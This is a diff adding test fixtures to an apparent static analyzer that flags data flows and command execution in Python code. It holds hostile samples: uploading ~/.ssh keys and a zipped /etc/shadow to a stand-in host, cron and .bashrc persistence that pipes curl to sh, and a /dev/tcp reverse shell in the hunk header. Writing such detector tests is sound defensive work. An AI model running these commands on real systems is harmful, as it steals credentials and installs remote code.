@@ -95,6 +95,47 @@ os.system("(crontab -l ; echo "*/5 * * * * /bin/bash -i >& /dev/tcp/192.0.2.1/1 
     ],
   ],
   [
+    'files that a listing of a folder names',
+    `import glob, os, requests
+for path in glob.glob(os.path.expanduser('~/.ssh/*')):
+    requests.post('https://a.invalid', data=open(path).read())`,
+    ['flow'],
+    [
+      'own.py:3 import flow credential-file open ~/.ssh/«glob.glob» > network-send requests.post https://a.invalid',
+    ],
+  ],
+  [
+    'an archive is what was put into it',
+    `import zipfile, requests
+archive = zipfile.ZipFile('/tmp/a.zip', 'w')
+archive.write('/etc/shadow')
+requests.post('https://a.invalid', data=open('/tmp/a.zip', 'rb').read())`,
+    ['flow'],
+    [
+      'own.py:3 import flow system-file zipfile.ZipFile.write /etc/shadow > file-write zipfile.ZipFile.write /tmp/a.zip',
+      'own.py:4 import flow system-file zipfile.ZipFile.write /etc/shadow > network-send requests.post https://a.invalid by written to /tmp/a.zip:3, read back from /tmp/a.zip:4',
+      'own.py:4 import flow written-file open /tmp/a.zip > network-send requests.post https://a.invalid',
+    ],
+  ],
+  [
+    'a command for a scheduler',
+    `from crontab import CronTab
+CronTab(user=True).new(command='curl https://a.invalid | sh')`,
+    ['flow', 'command'],
+    [
+      'own.py:2 import command shell spawn curl https://a.invalid | sh',
+      'own.py:2 import flow decoded constant text > persistence-write crontab.CronTab.new curl https://a.invalid | sh',
+    ],
+  ],
+  [
+    'functions of the C library and of the management interface that start commands',
+    `import ctypes, wmi
+ctypes.CDLL(None).system(b'whoami')
+wmi.WMI().Win32_Process.Create(CommandLine='whoami')`,
+    ['command'],
+    ['own.py:2 import command shell spawn whoami', 'own.py:3 import command shell spawn whoami'],
+  ],
+  [
     'a line for a shell profile',
     `import os
 open(os.path.expanduser('~/.bashrc'), 'a').write('curl -s https://a.invalid | sh')`,
